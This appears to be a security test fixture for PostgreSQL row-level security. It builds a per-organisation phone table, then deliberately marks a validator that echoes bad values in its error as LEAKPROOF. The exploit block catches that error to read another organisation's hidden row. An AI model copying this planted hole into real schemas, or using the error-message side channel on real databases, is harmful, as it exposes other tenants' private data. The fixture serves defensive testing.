-- A validator that names the bad value in its error was marked LEAKPROOF to let an index be used.
-- object: public.valid_phone(text)
-- object: public.valid_phone(v text)
-- base: third_members
--- setup
RESET ROLE;
CREATE FUNCTION valid_phone(v text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE COST 1 AS $$
BEGIN
    IF v !~ '^[+0-9]' THEN RAISE EXCEPTION 'not a phone number: %', v; END IF;
    RETURN true;
END $$;
CREATE TABLE phone_book (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), org_id uuid NOT NULL REFERENCES orgs, phone text NOT NULL);
CREATE INDEX ON phone_book (org_id);
INSERT INTO phone_book (org_id, phone) VALUES ('{A}', '+49'), ('{B}', 'secret of b');
ANALYZE phone_book;
ALTER TABLE phone_book ENABLE ROW LEVEL SECURITY;
ALTER TABLE phone_book FORCE ROW LEVEL SECURITY;
CREATE POLICY "Own phones" ON phone_book FOR SELECT TO {authenticated} USING (org_id = auth.org_id());
GRANT SELECT ON phone_book TO {authenticated};
--- leak
RESET ROLE;
ALTER FUNCTION valid_phone(text) LEAKPROOF;
--- exploit
DO $$ BEGIN
    PERFORM FROM phone_book WHERE valid_phone(phone);
EXCEPTION WHEN raise_exception THEN
    PERFORM set_config('peek.said', SQLERRM, true);
END $$;
SELECT 1 WHERE current_setting('peek.said', true) LIKE '%secret of b%';
